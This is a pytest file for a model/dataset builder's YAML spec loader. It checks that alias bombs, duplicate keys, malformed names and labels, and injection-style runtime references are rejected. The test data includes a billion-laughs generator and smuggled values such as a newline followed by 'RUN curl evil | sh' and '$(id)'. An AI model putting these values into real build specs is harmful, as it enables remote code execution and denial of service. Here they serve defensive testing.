"""Hostile yaml: alias bombs, duplicate keys, names that are not image names, runtime refs, label names."""

from __future__ import annotations

import resource
import time

import pytest

from builder.errors import SpecError
from builder.spec import load_dataset_spec, load_model_spec
from builder.yamldoc import MAX_ALIAS_EXPANSION, read_yaml_mapping

DATASET = """\
name: cifar10
data_dir: data
data_filter: "test_batch"
label_filter: "test_batch"
process: code.data_slicer:CIFAR10Slicer
"""

MODEL = """\
name: cifar_net
run:
  ppl: code.ppl:CIFAR10Inference
"""


def write(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(text)
    return path


def bomb(levels: int = 9, width: int = 9) -> str:
    """The billion-laughs shape with mappings: each level maps `width` keys to the level before it."""
    lines = ["a0: &a0 {x: lol}"]
    for n in range(1, levels + 1):
        keys = ", ".join(f"k{i}: *a{n - 1}" for i in range(width))
        lines.append(f"a{n}: &a{n} {{{keys}}}")
    return "\n".join(lines) + "\n"


def _max_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_alias_bomb_fails_fast_with_one_line(tmp_path):
    path = write(tmp_path, "dataset.yaml", DATASET + bomb())
    rss_before = _max_rss_mb()
    started = time.perf_counter()
    with pytest.raises(SpecError) as info:
        load_dataset_spec(path)
    assert time.perf_counter() - started < 2
    assert _max_rss_mb() - rss_before < 100
    message = str(info.value)
    assert "\n" not in message and str(path) in message and "aliases expand" in message


def test_bomb_through_the_cli_is_one_error_line(cli, tmp_path):
    write(tmp_path, "dataset.yaml", DATASET + bomb())
    res = cli("dataset", "build", tmp_path, "--no-image")
    assert res.code == 1
    assert res.err.strip().count("\n") == 0 and res.err.startswith("swcli: error: ") and "aliases expand" in res.err


def test_a_few_aliases_and_merge_keys_are_fine(tmp_path):
    text = "base: &b {alignment_size: 4k}\n" + DATASET + "attr:\n  <<: *b\n  volume_size: 1M\n"
    # `base` is not a dataset field: the alias itself parsed, the unknown field is the only complaint
    with pytest.raises(SpecError, match="field 'base'"):
        load_dataset_spec(write(tmp_path, "dataset.yaml", text))
    doc = read_yaml_mapping(write(tmp_path, "x.yaml", "d: &d {a: 1, b: 2}\n" + "".join(f"k{i}: *d\n" for i in range(50))))
    assert doc.data["k49"] == {"a": 1, "b": 2}


def test_expansion_bound_is_counted_not_file_size(tmp_path):
    # a long list written out (ImageNet-21k has 21841 labels) is not an alias expansion
    names = "".join(f"  - class{i}\n" for i in range(MAX_ALIAS_EXPANSION * 3))
    spec = load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET + "labels:\n" + names))
    assert len(spec.label_names) == MAX_ALIAS_EXPANSION * 3


def test_recursive_alias_is_refused(tmp_path):
    with pytest.raises(SpecError, match="contains it"):
        load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET + "attr: &a {volume_size: *a}\n"))


def test_deep_nesting_is_one_error(tmp_path):
    with pytest.raises(SpecError, match="invalid yaml"):
        load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET + "attr: " + "[" * 5000 + "]" * 5000 + "\n"))


def test_duplicate_top_level_key_names_both_lines(tmp_path):
    path = write(tmp_path, "dataset.yaml", DATASET + "name: other\n")
    with pytest.raises(SpecError) as info:
        load_dataset_spec(path)
    err = info.value
    assert err.field == "name" and err.line == 6
    assert "duplicate key 'name'" in str(err) and "line 1" in str(err) and "line 6" in str(err)


def test_duplicate_nested_key_names_both_lines(tmp_path):
    path = write(tmp_path, "dataset.yaml", DATASET + "attr:\n  volume_size: 1M\n  alignment_size: 4k\n  volume_size: 2M\n")
    with pytest.raises(SpecError) as info:
        load_dataset_spec(path)
    err = info.value
    assert err.field == "attr.volume_size" and err.line == 9 and "first at line 7" in str(err)


def test_duplicate_key_spelled_differently_is_still_a_duplicate(tmp_path):
    # 1 and 0x1 are the same integer key; yaml would silently keep the last
    with pytest.raises(SpecError, match="duplicate key"):
        load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET + "labels:\n  1: cat\n  0x1: dog\n"))


def test_duplicate_keys_in_model_yaml_too(tmp_path):
    with pytest.raises(SpecError, match="duplicate key 'ppl'"):
        load_model_spec(write(tmp_path, "model.yaml", MODEL + "  ppl: other:Thing\n"))


@pytest.mark.parametrize(
    "name_line",
    [
        'name: "cifar10\\n"',  # a trailing newline, quoted
        "name: |\n  cifar10\n",  # a trailing newline, block scalar
        "name: cifar..10",
        "name: cifar10-",
        "name: -cifar10",
        "name: cifar__10_",
        "name: Cifar10",
        "name: cifar/10",
        "name: " + "a" * 129,
    ],
)
def test_names_that_are_not_image_names_are_refused(tmp_path, name_line):
    text = DATASET.replace("name: cifar10\n", name_line + ("\n" if not name_line.endswith("\n") else ""))
    with pytest.raises(SpecError) as info:
        load_dataset_spec(write(tmp_path, "dataset.yaml", text))
    assert info.value.field == "name" and "\n" not in str(info.value)
    with pytest.raises(SpecError) as info:
        load_model_spec(write(tmp_path, "model.yaml", MODEL.replace("name: cifar_net\n", text.splitlines(True)[0]
                                                                    if "|" not in name_line else name_line)))
    assert info.value.field == "name"


@pytest.mark.parametrize("name", ["cifar10", "cifar_net", "cifar-env", "a.b", "a__b", "a---b", "x" * 128])
def test_valid_names_pass(tmp_path, name):
    assert load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET.replace("cifar10", name))).name == name


def test_bad_name_stores_nothing(cli, tmp_path):
    write(tmp_path, "dataset.yaml", DATASET.replace("name: cifar10", 'name: "cifar10\\n"'))
    res = cli("dataset", "build", tmp_path, "--no-image")
    assert res.code == 1 and "field 'name'" in res.err
    assert cli("dataset", "list", "-o", "json").out.strip() == "[]"


@pytest.mark.parametrize(
    "runtime",
    ["cifar-env", "cifar-env:latest", "cifar-env:g4ytezbq", "swrt/cifar-env:abc", "registry.example:5000/swrt/env:1",
     "swcli/base@sha256:" + "a" * 64],
)
def test_runtime_refs_and_images_pass(tmp_path, runtime):
    spec = load_model_spec(write(tmp_path, "model.yaml", MODEL + f"  runtime: {runtime}\n"))
    assert spec.runtime == runtime


@pytest.mark.parametrize(
    "runtime",
    ['"swrt/env:1\\nRUN curl evil | sh"', '"swrt/env:1\\nUSER 0"', '"env "', "Swrt/Env", '"env:1 AS x"', '"$(id)"',
     '"env:"', '"env\\n"'],
)
def test_runtime_refs_that_could_inject_are_refused(tmp_path, runtime):
    with pytest.raises(SpecError) as info:
        load_model_spec(write(tmp_path, "model.yaml", MODEL + f"  runtime: {runtime}\n"))
    assert info.value.field == "run.runtime" and info.value.line == 4 and "\n" not in str(info.value)


def test_labels_as_a_list(tmp_path):
    spec = load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET + "labels: [airplane, automobile, bird]\n"))
    assert spec.label_names == {"0": "airplane", "1": "automobile", "2": "bird"}


def test_labels_as_a_mapping(tmp_path):
    spec = load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET + "labels:\n  3: cat\n  '7': horse\n  x: other\n"))
    assert spec.label_names == {"3": "cat", "7": "horse", "x": "other"}


def test_labels_absent(tmp_path):
    assert load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET)).label_names is None


@pytest.mark.parametrize(
    ("labels", "field", "line", "words"),
    [
        ("labels: []\n", "labels", 6, "is empty"),
        ("labels: cat\n", "labels", 6, "expected a list or a mapping"),
        ("labels:\n  - cat\n  - ''\n", "labels.1", 8, "non-empty string"),
        ("labels:\n  - cat\n  - 3\n", "labels.1", 8, "non-empty string"),
        ("labels:\n  - cat\n  - [a]\n", "labels.1", 8, "non-empty string"),
        ("labels:\n  0: cat\n  1: \"a\\nb\"\n", "labels.1", 8, "one line"),
        ("labels:\n  0: cat\n  1:\n", "labels.1", 8, "non-empty string"),
        ("labels:\n  1: cat\n  '1': dog\n", "labels.1", 8, "given twice"),
        ("labels:\n  true: cat\n", "labels.True", None, "integer or a non-empty string"),
    ],
)
def test_bad_labels_name_the_field_and_line(tmp_path, labels, field, line, words):
    with pytest.raises(SpecError) as info:
        load_dataset_spec(write(tmp_path, "dataset.yaml", DATASET + labels))
    err = info.value
    assert err.field == field and err.line == line and words in str(err), str(err)
